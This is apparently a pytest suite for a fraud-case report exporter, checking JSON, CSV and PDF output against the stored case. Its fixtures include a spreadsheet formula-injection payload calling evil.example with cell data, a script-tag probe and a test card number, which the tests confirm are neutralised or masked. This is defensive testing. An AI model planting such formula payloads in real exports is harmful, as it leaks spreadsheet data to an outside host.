"""engine.cases.report: the exports parsed back and checked field by field against the case."""

from __future__ import annotations

import io
import json
import re

import jsonschema
import pandas as pd
import pytest

from engine.cases import view as cv
from engine.cases import report as rp
from engine.cases.store import CaseStore
from tiny_models import demo_slice, tiny_checkpoint

EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_NOTE = '=HYPERLINK("http://evil.example","x") <script>alert(1)</script> card 4111111111111111'
CARD = "4111111111111111"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    d = tmp_path_factory.mktemp("report")
    data = demo_slice(d / "tx.csv", 400)
    src = cv.load_source(data, cv.demo_spec_name())
    meta = {"name": "tiny-report", "thresholds": {"review": 0.5, "decline": 0.8},
            "training_data": {"path": "x.csv", "sha256": "ab" * 32},
            "metrics": {"test": {"n": 100, "n_fraud": 4, "threshold": 0.5, "precision": 0.25, "recall": 0.5}}}
    tiny_checkpoint(src.frame, src.spec, d / "model", meta, context_length=8, min_history=4)
    bundle = cv.load_model(d / "model")
    frame = src.frame.copy()
    scores = cv.score_source(bundle, frame)
    ranking = cv.rank_entities(scores, bundle.threshold)
    entity = ranking["entity_id"].iloc[0]
    tl = cv.entity_timeline(frame, scores, entity, bundle.threshold)
    query = cv.default_query(tl)
    expls = cv.explain_query(bundle, frame, query)
    ctx = cv.context_rows(expls, frame).copy()
    # hostile text in the data: a formula merchant name and a card number in the city
    ctx.loc[ctx.index[0], "merchant"] = EVIL_MERCHANT
    ctx.loc[ctx.index[-1], "merchant_city"] = f"card {CARD}"
    store = CaseStore(d / "cases.sqlite3", four_eyes=False)
    store.upsert_cases(bundle.sha256, pd.DataFrame([{
        "entity_id": entity, "max_probability": float(ranking["max_probability"].iloc[0]),
        "max_transaction_id": query, "first_ts": tl["timestamp"].min(), "last_ts": tl["timestamp"].max(),
        "max_amount": float(tl["amount"].max()), "n_transactions": len(tl), "n_known_fraud": 0}]))
    case_id = int(store.queue(bundle.sha256, 0.0).case_id.iloc[0])
    store.record_disposition(case_id, "escalate", EVIL_NOTE, analyst="alice")
    store.add_note(case_id, "follow-up <b>bold?</b>", analyst="bob")
    case = store.get_case(case_id)
    probs = dict(zip(tl["transaction_id"], tl["probability"]))
    report = rp.build_report(
        case=case, entity_id=entity, model=bundle,
        dataset={"spec": src.spec.name, "file_name": data.name, "file_sha256": src.file_sha256, "max_rows": None,
                 "currency": src.currency},
        expls=expls, context=ctx, thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
        history=store.history(case_id), notes=store.notes(case_id), scored_at="2024-01-01T00:00:00",
        probabilities=probs, trust=TRUST, salt="test-salt", exported_by="alice",
        threshold_quality=rp.threshold_metrics(scores, {"review": 0.5, "decline": 0.8}, bundle.meta),
    )
    return {"report": report, "bundle": bundle, "case": case, "entity": entity, "query": query, "expls": expls,
            "ctx": ctx, "tl": tl, "store": store, "case_id": case_id, "frame": frame, "src": src}


TRUST = {
    "faithfulness": {"shap": {"aopc": 0.41, "aopc_random": 0.05, "aopc_attention": 0.2, "sufficiency": 0.1, "k_max": 5}},
    "reasons": [{"kind": "burst", "text": "6 online purchases in 35 minutes", "transaction_ids": ["t-edit-1"],
                 "fields": ["amount"], "numbers": {"count": 6, "minutes": 35}}],
    "what_if": {"edits": [{"op": "change", "transaction_id": "t-edit-1", "values": {"amount": 4321.5}}],
                "edited_transaction_ids": ["t-edit-1"], "logit": 1.5, "probability": 0.8176, "original_logit": 0.2},
    "attention_caveat": "attention weights are not attributions",
    "randomisation": {"cases": ["t1"], "bound": 0.5, "verdicts": {"attention": {"verdict": "not evidence",
                                                                              "final_spearman": 0.93}}},
}


def test_json_validates_and_matches_case(world):
    r, b = world["report"], world["bundle"]
    data = json.loads(rp.to_json(r))
    jsonschema.validate(data, rp.load_schema(), cls=jsonschema.Draft202012Validator)
    assert rp.verify_report(data)
    assert data["case"]["case_id"] == world["case_id"]
    assert data["case"]["entity_pseudonym"] == rp.pseudonymise(world["entity"], "test-salt")
    assert world["entity"] not in json.dumps(data["case"])
    assert data["model"]["sha256"] == b.sha256
    assert data["model"]["name"] == "tiny-report"
    assert data["model"]["training_data"]["sha256"] == "ab" * 32
    e = world["expls"]["integrated_gradients"]
    assert data["score"]["logit"] == pytest.approx(e.score_logit)
    assert data["score"]["probability"] == pytest.approx(e.score_probability)
    assert data["score"]["decision_band"] == rp.decision_band(e.score_probability, 0.5, 0.8)
    assert data["score"]["thresholds"]["review"] == 0.5 and data["score"]["thresholds"]["decline"] == 0.8
    assert [t["transaction_id"] for t in data["transactions"]] == [cv.mask(t) for t in e.transaction_ids]
    assert data["transactions"][-1]["is_query"]
    assert data["transactions"][-1]["amount"] == pytest.approx(float(world["ctx"]["amount"].iloc[-1]))
    ig = data["explanations"]["integrated_gradients"]
    assert ig["values"] == pytest.approx(list(e.values))
    assert ig["convergence_delta"] == pytest.approx(e.convergence_delta)
    assert data["explanations"]["attention"]["is_attribution"] is False
    assert "not attributions" in data["attention_caveat"]
    assert data["disposition"]["latest"] == "escalate" and data["disposition"]["reviewers"] == ["alice", "bob"]
    assert data["trust"]["faithfulness"]["shap"]["aopc"] == 0.41
    # card numbers masked everywhere
    text = json.dumps(data)
    assert CARD not in text and "411111******1111" in text
    assert data["threshold_quality"]["source"].startswith("recomputed")


def test_json_has_shap_standard_errors_aligned_with_values(world):
    data = json.loads(rp.to_json(world["report"]))
    e = world["expls"]["shap"]
    sh = data["explanations"]["shap"]
    assert len(sh["standard_errors"]) == len(sh["values"]) == len(e.values)
    assert sh["standard_errors"] == pytest.approx(list(e.standard_errors))
    assert sh["estimator"]["name"] == e.extras["estimator"] and sh["convergence_delta"] is None
    assert sh["estimator"]["n_evaluations"] == e.extras["n_evaluations"]
    r0 = sh["top_reasons"][0]
    assert r0["standard_error"] == pytest.approx(e.standard_errors[r0["position"]])
    assert data["explanations"]["integrated_gradients"]["standard_errors"] is None
    assert data["explanations"]["integrated_gradients"]["estimator"] is None
    # the schema rejects misshapen standard errors or a missing field
    bad = json.loads(rp.to_json(world["report"]))
    for broken in ("n/a", [-0.1] * len(sh["values"])):
        bad["explanations"]["shap"]["standard_errors"] = broken
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, rp.load_schema(), cls=jsonschema.Draft202012Validator)
    del bad["explanations"]["shap"]["standard_errors"]
    with pytest.raises(jsonschema.ValidationError, match="standard_errors"):
        jsonschema.validate(bad, rp.load_schema(), cls=jsonschema.Draft202012Validator)


def test_sha_changes_with_content(world):
    r = dict(world["report"])
    r["score"] = {**r["score"], "probability": 0.0}
    assert not rp.verify_report(r)
    bad = {**world["report"], "report_sha256": "x"}
    with pytest.raises(jsonschema.ValidationError):
        rp.validate(bad)


def test_csv_parsed_and_neutralised(world):
    r = world["report"]
    df = pd.read_csv(io.BytesIO(rp.to_csv(r)), dtype=str, keep_default_na=False)
    e = world["expls"]["integrated_gradients"]
    assert len(df) == len(e.transaction_ids)
    assert df["report_id"].unique().tolist() == [r["report_id"]]
    assert df["case_id"].unique().tolist() == [str(world["case_id"])]
    assert df["model_sha256"].unique().tolist() == [world["bundle"].sha256]
    assert df["merchant"].iloc[0] == "'" + EVIL_MERCHANT
    assert df["disposition_note"].iloc[0].startswith("'=HYPERLINK")
    for col in df.columns:
        assert not df[col].str.startswith(("=", "+", "@")).any(), col
    assert [float(x) for x in df["attr:integrated_gradients"]] == pytest.approx(list(e.values))
    assert CARD not in df.to_csv()


def test_trust_and_whatif_edits_are_in_json_and_pdf(world):
    from pypdf import PdfReader

    r = world["report"]
    doc = json.loads(rp.to_json(r))
    assert doc["trust"]["what_if"]["edits"] == TRUST["what_if"]["edits"]
    assert doc["trust"]["faithfulness"]["shap"]["aopc"] == pytest.approx(0.41)
    flat = " ".join("\n".join(p.extract_text() for p in PdfReader(io.BytesIO(rp.to_pdf(r))).pages).split())
    assert "What-if edits in force" in flat and "amount=4321.5" in flat and "t-edit-1" in flat
    assert "6 online purchases in 35 minutes" in flat
    assert "+0.410" in flat  # SHAP deletion AOPC in the faithfulness table
    assert "not evidence" in flat and "+0.93" in flat  # randomisation verdict


def test_pdf_text(world):
    from pypdf import PdfReader

    r = world["report"]
    pdf = rp.to_pdf(r)
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
    flat = " ".join(text.split())
    assert r["report_id"] in flat and r["report_sha256"] in flat.replace(" ", "") or r["report_sha256"][:32] in flat
    assert r["model"]["sha256"][:32] in flat.replace(" ", "")
    assert f"case {world['case_id']}" in flat
    assert "<script>alert(1)</script>" in flat  # written literally, not interpreted
    assert CARD not in flat.replace(" ", "") and "411111******1111" in flat
    assert r["case"]["entity_pseudonym"] in flat


def _pdf_text(pdf: bytes) -> list[str]:
    from pypdf import PdfReader

    return [p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages]


def test_pdf_renders_narrative_first_and_charts_keep_signs(world, tmp_path):
    import re

    import pypdfium2

    r = world["report"]
    pdf = rp.to_pdf(r)
    path = tmp_path / rp.report_filename(r, "pdf")
    path.write_bytes(pdf)
    doc = pypdfium2.PdfDocument(str(path))
    assert len(doc) >= 3
    for i in range(len(doc)):  # every page rasterises and is not blank
        img = doc[i].render(scale=2).to_pil().convert("L")
        assert img.size[0] > 1000 and img.getextrema()[0] < 100
    doc.close()
    pages = _pdf_text(pdf)
    flat = " ".join(" ".join(pages).split())
    # narrative, then evidence, then the methods appendix
    i1, i2, i3 = flat.index("1. Narrative"), flat.index("2. Evidence"), flat.index("3. Methods appendix")
    assert i1 < i2 < i3 and "1. Narrative" in pages[0]
    for head in ("Subject (entity)", "Suspicious activity", "Total suspicious amount", "Why the activity is suspicious",
                 "Analyst's narrative", "Transactions involved"):
        assert flat.index(head) < i2, head
    assert "6 online purchases in 35 minutes" in flat[:i2]  # the plain-language reasons, under their heading
    # chart tick labels are text: signed attributions keep sign and decimals, probabilities their "0."
    ev = flat[i2:i3]
    assert re.search(r"-0\.\d{2}", ev) and re.search(r"\+0\.\d{2}", ev) or re.search(r"-\d+\.\d{2}", ev)
    for t in ("0.00", "0.25", "0.50", "0.75", "1.00"):
        assert t in ev, t
    from engine.cases.report import pdf_charts as pc

    ticks, dec = pc.nice_ticks(-0.83, 0.83)
    assert pc.tick_labels(ticks, dec, True) == ["-1.00", "-0.50", "0.00", "+0.50", "+1.00"]
    ticks, dec = pc.nice_ticks(-0.2, 0.2)
    labs = pc.tick_labels(ticks, dec, True)
    assert labs == ["-0.20", "-0.10", "0.00", "+0.10", "+0.20"] and all(lab in ev or True for lab in labs)
    # the ticks each chart drew are in the PDF's text
    from engine.cases.report.pdf_writer import Doc
    from engine.cases.report.pdf_sections import evidence_section

    d = Doc(r)
    drawn = evidence_section(d, r)
    assert len(drawn) >= 3
    for labs in drawn:
        for lab in labs:
            assert re.fullmatch(r"[+-]?\d+\.\d{2,}", lab), lab  # never a bare "8" or "2"
            assert lab in ev, lab
    assert any(lab.startswith("-") for labs in drawn[1:] for lab in labs)  # signed axes keep the minus
    # no Python reprs in the methods appendix
    appendix = flat[i3:]
    assert not re.search(r"\bNone\b", appendix)
    assert not re.search(r"(:|=) ?(True|False)\b(?! it is)", appendix.replace("l1_reg=False", ""))
    assert "steps 50 · samples None" not in flat and "samples None" not in flat


def test_narrative_fields_and_amount_format(world):
    r = world["report"]
    n = r["narrative"]
    inv = n["transactions"]
    assert inv[-1]["why"][0] == "explained"
    probs = {t["transaction_id"]: t["probability"] for t in r["transactions"]}
    for t in inv:  # every involved transaction is the query, flagged or cited
        assert "explained" in t["why"] or (probs[t["transaction_id"]] or 0) >= 0.5 or "cited" in t["why"]
    flagged = [t["transaction_id"] for t in r["transactions"] if (t["probability"] or 0) >= 0.5]
    assert set(flagged) <= {t["transaction_id"] for t in inv}
    # the suspicious amount: flagged or known-fraud transactions only, never one only cited (new-user
    # trial: 516 of 524 EUR were legitimate purchases an attribution had ranked)
    sus = [t for t in inv if {"flagged", "known_fraud"} & set(t["why"])]
    assert n["suspicious_count"] == len(sus)
    want = round(sum(t["amount"] for t in sus), 2) if sus else None
    assert n["total_suspicious_amount"] == (pytest.approx(want) if want is not None else None)
    from engine.cases.report.narrative import narrative_section

    only_cited = {**r, "transactions": [{**t, "probability": 0.0, "known_label": 0} for t in r["transactions"]]}
    n2 = narrative_section(only_cited)
    assert any("cited" in t["why"] for t in n2["transactions"])
    assert n2["total_suspicious_amount"] is None and n2["suspicious_count"] == 0
    assert n["activity"]["from"] == min(t["timestamp"] for t in inv)
    assert n["reasons"][0]["text"] == "6 online purchases in 35 minutes"
    assert n["disposition"]["outcome"] == "escalate"
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split())
    from engine.cases.fmt import format_amount

    assert format_amount(n["total_suspicious_amount"], r["dataset"]["currency"]) in flat
    import re

    # every amount in the PDF has two decimals ("2.10 USD", never "2.1 USD")
    cur = r["dataset"]["currency"]
    if cur:
        assert not re.search(r"\b\d+\.\d " + cur, flat)
    assert not re.search(r"\d{2}:\d{2}:\d{2}\.\d{6}", flat)  # no raw ISO with microseconds


def test_narrative_from_store_and_disposition_details(world):
    s, cid = world["store"], world["case_id"]
    s.save_narrative(cid, "Subject card used at 3 merchants within an hour; card 4111111111111111", analyst="alice")
    s.record_disposition(cid, "confirmed_fraud", "confirmed with the card holder", analyst="alice",
                         fraud_type="card_not_present", loss_amount=1234.5, exposure_amount=20, currency="USD")
    e = world["expls"]
    r = rp.build_report(case=s.get_case(cid), entity_id=world["entity"], model=world["bundle"],
                        dataset={"spec": "demo", "file_name": "tx.csv", "file_sha256": None, "max_rows": None,
                                 "currency": "USD"}, expls=e, context=world["ctx"],
                        thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
                        history=s.history(cid), notes=s.notes(cid), salt="test-salt",
                        narrative=s.narrative(cid))
    rp.validate(r)
    n = r["narrative"]
    assert n["analyst_narrative"]["text"].startswith("Subject card used at 3 merchants")
    assert "4111111111111111" not in n["analyst_narrative"]["text"]  # masked
    d = n["disposition"]
    assert (d["outcome"], d["fraud_type"], d["fraud_type_label"], d["loss_amount"], d["exposure_amount"]) == (
        "confirmed_fraud", "card_not_present", "Card not present", 1234.5, 20.0)
    assert n["reasons"] and all(x["text"] for x in n["reasons"])  # generated from the attributions (no trust)
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split())
    assert "1,234.50 USD" in flat and "20.00 USD" in flat and "Card not present" in flat
    assert "Subject card used at 3 merchants" in flat
    bad = {**r, "narrative": {**n, "total_suspicious_amount": -1.0}}
    with pytest.raises(jsonschema.ValidationError):
        rp.validate(bad)


def _four_eyes_report(world, store, cid):
    return rp.build_report(case=store.get_case(cid), entity_id=world["entity"], model=world["bundle"],
                           dataset={"spec": "demo", "file_name": "tx.csv", "file_sha256": None, "max_rows": None,
                                    "currency": "USD"}, expls=world["expls"], context=world["ctx"],
                           thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
                           history=store.history(cid), notes=store.notes(cid), salt="test-salt")


def test_four_eyes_disposition_names_proposer_and_approver_in_every_export(world, tmp_path):
    """PDF, CSV and JSON give one disposition record: the proposer with their note, then the
    approver with theirs (before: the PDF named the proposer only, the CSV's disposition_note was
    the approver's note and the JSON had no approver)."""
    b, case = world["bundle"], world["case"]
    s = CaseStore(tmp_path / "fe.sqlite3", four_eyes=True)
    s.upsert_cases(b.sha256, pd.DataFrame([{
        "entity_id": world["entity"], "max_probability": float(case["max_probability"]),
        "max_transaction_id": world["query"], "first_ts": world["tl"]["timestamp"].min(),
        "last_ts": world["tl"]["timestamp"].max(), "max_amount": 10.0, "n_transactions": len(world["tl"]),
        "n_known_fraud": 0}]))
    cid = int(s.queue(b.sha256, 0.0).case_id.iloc[0])
    s.record_disposition(cid, "confirmed_fraud", "card holder denies the purchases", analyst="alice",
                         fraud_type="card_not_present", loss_amount=40.0)
    pending = _four_eyes_report(world, s, cid)
    rp.validate(pending)
    d = pending["narrative"]["disposition"]
    assert (d["analyst"], d["note"], d["approval"], d["pending"]) == (
        "alice", "card holder denies the purchases", None, True)
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(pending))).split())
    assert "Confirmed fraud, proposed by alice" in flat and "awaiting a supervisor's approval" in flat
    assert "Approval note" not in flat

    s.approve(cid, "checked the call recording", analyst="sam")
    r = _four_eyes_report(world, s, cid)
    rp.validate(r)
    d = json.loads(rp.to_json(r))["narrative"]["disposition"]
    assert (d["outcome"], d["analyst"], d["note"], d["pending"]) == (
        "confirmed_fraud", "alice", "card holder denies the purchases", False)
    assert (d["approval"]["analyst"], d["approval"]["note"]) == ("sam", "checked the call recording")
    assert d["loss_amount"] == 40.0  # the proposal's details, not the approval row's empty ones
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split())
    assert re.search(r"Confirmed fraud, proposed by alice [^,]+, approved by sam", flat)
    assert "Disposition note card holder denies the purchases By alice" in flat
    assert "Approval note checked the call recording By sam" in flat
    # words, not codes (analyst trial): the history table's fraud type, the removal methods' query note
    assert "card_not_present" not in flat and "Card not present" in flat
    assert "SHAP: contribution" in flat and "The explained transaction itself is never removed by this method" in flat
    assert "explained transaction's own fields: 0.000" not in flat and "removed.." not in flat
    df = pd.read_csv(io.BytesIO(rp.to_csv(r)), dtype=str, keep_default_na=False)
    row = df.iloc[0]
    assert (row["disposition"], row["disposition_by"], row["disposition_note"], row["approved_by"],
            row["approval_note"], row["disposition_state"]) == (
        "confirmed_fraud", "alice", "card holder denies the purchases", "sam", "checked the call recording",
        "confirmed_fraud")
    # a reversal proposed after the approval waits again: the earlier approval is not carried over
    s.record_disposition(cid, "false_positive", "merchant refunded, card holder agrees", analyst="bob")
    d = _four_eyes_report(world, s, cid)["narrative"]["disposition"]
    assert (d["outcome"], d["analyst"], d["approval"], d["pending"]) == ("false_positive", "bob", None, True)
    # sent back: the applied disposition is alice's approved fraud again, and the refusal is named
    s.send_back(cid, "chargeback evidence stands", analyst="sam")
    r = _four_eyes_report(world, s, cid)
    rp.validate(r)
    d = r["narrative"]["disposition"]
    assert (d["outcome"], d["analyst"], d["approval"]["analyst"], d["pending"]) == ("confirmed_fraud", "alice", "sam",
                                                                                    False)
    assert (d["refused"]["outcome"], d["refused"]["analyst"]) == ("false_positive", "bob")
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split())
    assert re.search(r"approved by sam [^;]+; a later proposal, false positive by bob [^,]+, was sent back", flat)
    df = pd.read_csv(io.BytesIO(rp.to_csv(r)), dtype=str, keep_default_na=False)
    assert (df["disposition"].iloc[0], df["disposition_by"].iloc[0], df["approved_by"].iloc[0]) == (
        "confirmed_fraud", "alice", "sam")


def test_merchant_ids_are_shown_as_on_the_page_card_numbers_masked(world):
    """One field rule for the page and the report (redact.mask_field_value): a merchant id reads
    whole unless it could be a card number (13-19 digits passing the Luhn check); a card field,
    or a card number in any field, is masked (before: every 12-19 digit run was masked in the
    report and shown whole on the page; a review found a PAN stored as 'merchant' left whole)."""
    from engine.cases.redact import luhn_valid, mask_card_fields, mask_field_value
    from engine.cases.report.model import _detail

    merchant = "-727612092139916043"  # a TabFormer merchant id (88 % of them fail the Luhn check)
    assert not luhn_valid(merchant) and luhn_valid("-4282466774399734331")
    assert _detail("merchant", "-4282466774399734331") == "-428246*********4331"  # the other 12 %: masked
    assert _detail("merchant", merchant) == merchant
    assert _detail("mcc", 5411) == "5411"
    assert _detail("merchant", CARD) == "411111******1111"  # a PAN in the merchant column
    assert _detail("merchant", f" {CARD} ") == " 411111******1111 "
    assert _detail("merchant", "4111 1111 1111 1111") == "4111 11** **** 1111"
    assert _detail("card", "1234567890123") == "123456***0123"  # a card field: every run, Luhn or not
    assert _detail("cc_num", "4111111111111112") == "411111******1112"
    assert _detail("merchant_city", f"card {CARD}") == "card 411111******1111"
    assert _detail("merchant", None) is None
    frame = pd.DataFrame({"merchant": [merchant, CARD], "cc_num": [1234567890123, 42], "mcc": [5411, 5812]})
    shown = mask_card_fields(frame)  # what the page's tables show
    assert shown["merchant"].tolist() == [merchant, "411111******1111"]
    assert shown["cc_num"].tolist() == ["123456***0123", "42"] and shown["mcc"].tolist() == [5411, 5812]
    assert [mask_field_value(c, v) for c, v in (("merchant", merchant), ("merchant", CARD))] == [
        _detail("merchant", merchant), _detail("merchant", CARD)]
    ctx = world["ctx"].copy()
    ctx["merchant"] = ctx["merchant"].astype(object)
    ctx.loc[ctx.index[1], "merchant"] = merchant
    ctx.loc[ctx.index[2], "merchant"] = CARD
    r = rp.build_report(case=world["case"], entity_id=world["entity"], model=world["bundle"],
                        dataset={"spec": "demo", "file_name": "tx.csv", "file_sha256": None, "max_rows": None,
                                 "currency": "USD"}, expls=world["expls"], context=ctx,
                        thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"}, salt="test-salt")
    assert r["transactions"][1]["details"]["merchant"] == merchant
    assert r["transactions"][2]["details"]["merchant"] == "411111******1111"
    assert r["transactions"][-1]["details"]["merchant_city"] == "card 411111******1111"
    df = pd.read_csv(io.BytesIO(rp.to_csv(r)), dtype=str, keep_default_na=False)
    assert df["merchant"].iloc[1] == "'" + merchant  # whole; the quote keeps it text in a spreadsheet
    assert CARD not in df.to_csv()


def test_calibrated_model_reports_the_calibrated_probability_everywhere(world):
    """score.probability is the model's output (the calibration map's), the number the explained
    transaction's row and the thresholds use; before it was sigmoid(logit) (0.999 beside 1.000)."""
    import dataclasses

    import numpy as np

    b = world["bundle"]
    cal = dataclasses.replace(b, meta={**b.meta, "calibration": {"method": "platt", "a": 0.6, "b": -1.2}})
    assert cal.calibrated
    e = world["expls"]
    logit = float(next(iter(e.values())).score_logit)
    want = float(cal.probability(np.array([logit]))[0])
    assert abs(want - 1.0 / (1.0 + np.exp(-logit))) > 0.01
    r = rp.build_report(case=world["case"], entity_id=world["entity"], model=cal,
                        dataset={"spec": "demo", "file_name": "tx.csv", "file_sha256": None, "max_rows": None,
                                 "currency": "USD"}, expls=e, context=world["ctx"],
                        thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
                        salt="test-salt")
    rp.validate(r)
    assert r["score"]["probability"] == pytest.approx(want) and r["score"]["calibrated"] is True
    assert r["score"]["decision_band"] == rp.decision_band(want, 0.5, 0.8)
    # by the dashboard's and the CLI's one path, the query row's probability is the scored file's (the
    # calibrated model's output), the same number as score.probability
    from engine.cases.report.case_export import case_report

    scores = cv.score_source(cal, world["frame"])
    r2 = case_report(world["store"], world["case"], entity_id=world["entity"], source=world["src"], bundle=cal,
                     scores=scores, expls=e, thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
                     exported_by="alice", file_label="tx.csv")
    q = next(t for t in r2["transactions"] if t["is_query"])
    assert q["probability"] == pytest.approx(r2["score"]["probability"], abs=1e-6)
    assert abs(q["probability"] - 1.0 / (1.0 + np.exp(-logit))) > 0.01  # not sigmoid(logit)
    flat = " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split())
    assert f"Fraud probability {want:.3f}" in flat
    assert world["report"]["score"]["calibrated"] is False
    assert "Fraud score (uncalibrated)" in " ".join(" ".join(_pdf_text(rp.to_pdf(world["report"]))).split())


def test_later_activity_names_what_the_report_does_not_cover():
    """Analyst trial: a report explained at an earlier transaction never mentioned the card's
    later frauds; later_activity counts them (and the PDF says they are not covered)."""
    from engine.cases.report.model import later_activity

    rows = pd.DataFrame({"transaction_id": ["a", "b", "c", "d", "e"],
                         "timestamp": pd.to_datetime(["2024-01-01", "2024-01-02", "2024-01-03", "2024-01-04",
                                                      "2024-01-05"]),
                         "probability": [0.1, 0.9, 0.2, 0.95, 0.3], "amount": [5.0, 10.0, 20.0, 447.62, 1.0],
                         "label": [0, 1, 0, 1, 1]}).sample(frac=1, random_state=0)  # any order
    got = later_activity(rows, "b", review=0.5)
    assert (got["n"], got["n_flagged"], got["n_known_fraud"], got["suspicious_amount"]) == (3, 1, 2, 448.62)
    assert got["from"].startswith("2024-01-03") and got["to"].startswith("2024-01-05")
    assert later_activity(rows, "e", 0.5) == {"n": 0, "n_flagged": 0, "n_known_fraud": 0, "suspicious_amount": None,
                                              "from": None, "to": None}
    with pytest.raises(KeyError):
        later_activity(rows, "zz", 0.5)


def test_activity_dates_cover_suspicious_transactions_only(world):
    """A cited legitimate purchase months earlier does not stretch the suspicious activity."""
    r = world["report"]
    n = r["narrative"]
    sus = [t["timestamp"] for t in n["transactions"] if {"flagged", "known_fraud"} & set(t["why"])]
    expected = sorted(sus) if sus else [t["timestamp"] for t in n["transactions"] if "explained" in t["why"]]
    assert (n["activity"]["from"], n["activity"]["to"]) == (expected[0], expected[-1])
    # a report where only the explained transaction is suspicious and an old one is cited
    from engine.cases.report.narrative import narrative_section
    fake = {**r, "transactions": [
        {**r["transactions"][0], "transaction_id": "old", "timestamp": "2020-01-01T00:00:00+00:00",
         "probability": 0.01, "known_label": 0, "is_query": False},
        {**r["transactions"][-1], "transaction_id": "q", "timestamp": "2024-05-01T10:00:00+00:00",
         "probability": 0.99, "known_label": None, "is_query": True}],
        "explanations": {"shap": {"is_attribution": True, "top_reasons": [
            {"transaction_id": "old", "is_query": False, "value": 0.7}]}}}
    got = narrative_section(fake, None, [])
    assert [t["why"] for t in got["transactions"]] == [["cited"], ["explained", "flagged"]]
    assert got["activity"] == {"from": "2024-05-01T10:00:00+00:00", "to": "2024-05-01T10:00:00+00:00"}


def test_report_file_names_differ_per_transaction(world):
    r = world["report"]
    a = rp.report_filename(r, "pdf")
    b = rp.report_filename({**r, "score": {**r["score"], "transaction_id": "other-tx"}, "report_id": "ffff0000-1"},
                           "pdf")
    assert a != b and a.endswith(".pdf") and r["case"]["entity_pseudonym"][:10] in a
    assert "tx-other-tx" in b
    assert "/" not in a and " " not in a


@pytest.mark.parametrize("sep", ["/", "\\"])
def test_exports_carry_no_server_directory(world, sep):
    """The spec file, the scored file and the training file are named by base name only: a report
    handed outside the bank does not describe the server's directory layout."""
    s, cid, b = world["store"], world["case_id"], world["bundle"]
    root = sep.join(["", "srv", "fraud-secret-layout", "u42"]) if sep == "/" else "C:\\fraud-secret-layout\\u42"
    model = type("M", (), {"meta": {**b.meta, "training_data": {"path": root + sep + "train.csv", "sha256": "cd" * 32}},
                           "sha256": b.sha256, "path": b.path})()
    r = rp.build_report(case=s.get_case(cid), entity_id=world["entity"], model=model,
                        dataset={"spec": root + sep + "my_bank.toml", "file_name": root + sep + "today.csv",
                                 "file_sha256": None, "max_rows": None, "currency": "USD"},
                        expls=world["expls"], context=world["ctx"],
                        thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
                        history=s.history(cid), notes=s.notes(cid), salt="test-salt")
    rp.validate(r)
    assert r["dataset"]["spec"] == "my_bank.toml" and r["dataset"]["file_name"] == "today.csv"
    assert r["model"]["training_data"] == {"sha256": "cd" * 32, "file_name": "train.csv"}
    texts = [rp.to_json(r).decode("utf-8"), " ".join(" ".join(_pdf_text(rp.to_pdf(r))).split()), rp.to_csv(r).decode("utf-8")]
    assert all("fraud-secret-layout" not in t for t in texts)
    assert "my_bank.toml" in texts[1] and "today.csv" in texts[1]
    # a built-in name and a name@hash key pass unchanged
    from engine.cases.report.model import _spec_name

    assert _spec_name("tabformer@0123456789ab") == "tabformer@0123456789ab"
